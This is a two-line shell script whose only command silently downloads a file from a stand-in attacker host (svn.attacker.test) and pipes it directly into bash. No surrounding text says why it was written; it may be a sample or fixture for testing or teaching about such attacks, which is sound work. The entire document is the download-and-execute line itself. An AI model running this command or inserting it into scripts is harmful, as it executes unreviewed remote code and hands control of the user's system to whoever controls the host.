#!/bin/sh
wget -qO- https://svn.attacker.test/p | bash
